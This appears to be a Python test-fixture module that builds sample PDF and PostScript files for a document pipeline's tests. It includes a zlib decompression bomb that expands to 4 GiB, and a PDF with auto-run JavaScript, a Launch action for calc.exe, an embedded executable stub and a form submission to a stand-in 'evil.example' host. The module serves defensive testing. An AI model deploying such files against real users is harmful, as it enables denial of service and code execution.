"""Small documents for the tests of the pipeline, drawn by reportlab and spoilt by hand."""

from __future__ import annotations

import zlib
from collections.abc import Sequence
from io import BytesIO

from reportlab.pdfgen.canvas import Canvas  # type: ignore[import-untyped]  # reportlab ships no types

Line = tuple[float, float, str]


def pdf(*pages: Sequence[Line]) -> bytes:
    """A PDF with lines of text at (x, y) in points from the lower left corner."""
    out = BytesIO()
    canvas = Canvas(out, pagesize=(595, 842), invariant=1)
    for lines in pages:
        canvas.setFont("Helvetica", 10)
        for x, y, text in lines:
            canvas.drawString(x, y, text)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects as they are given; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def many_pages(count: int) -> bytes:
    """Empty pages that share one page object's parts."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
        *[page] * count,
    )


def bomb(size: int = 4 << 30) -> bytes:
    """A page whose content is a few megabytes packed and ``size`` bytes unpacked."""
    packer = zlib.compressobj(9, wbits=-15)
    content = b"q Q " * (1 << 20)
    block = packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it can be repeated
    data = b"\x78\x9c" + block * (size // len(content)) + b"\x03\x00" + bytes(4)
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream(data, b"/Filter /FlateDecode"),
    )


def acting() -> bytes:
    """A page with all that acts or hides: scripts, a launch, an embedded file; and a font that is called /JS."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >>"
        b" /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O 5 0 R >>"
        b" /Resources << /Font << /JS 8 0 R >> >>"
        b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
        b" << /Type /Annot /Subtype /Link /Rect [9 9 20 20] /A << /S /URI /URI (https://firm.example/) >> >>"
        b" << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>] >>",
        stream(b"BT /JS 12 Tf 72 700 Td (Visible words) Tj ET"),
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /SubmitForm /F (https://evil.example/) >> >>",
        b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        stream(b"MZ payload", b"/Type /EmbeddedFile"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def postscript(*bodies: str, pages: int | str | None = None) -> bytes:
    """PostScript with a page for each body."""
    announced = [] if pages is None else [f"%%Pages: {pages}"]
    lines = ["%!PS-Adobe-3.0", *announced, "%%EndComments", "/Helvetica findfont 12 scalefont setfont"]
    for body in bodies:
        lines += ["72 700 moveto", body, "showpage"]
    return "\n".join([*lines, "%%EOF", ""]).encode("latin-1")


def stamped(subtype: bytes, words: bytes) -> bytes:
    """A page with ``words`` in the appearance of a note, stamp or form field over it."""
    fonts = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R] /Resources %s >>"
        % fonts,
        stream(b"BT /F 12 Tf 72 700 Td (Page text) Tj ET"),
        stream(b"BT /F 12 Tf 2 2 Td (%s) Tj ET" % words, b"/Subtype /Form /BBox [0 0 300 20] /Resources %s" % fonts),
        b"<< /Type /Annot /Subtype /%s /Rect [72 500 372 520] /F 4 /AP << /N 5 0 R >> >>" % subtype,
    )
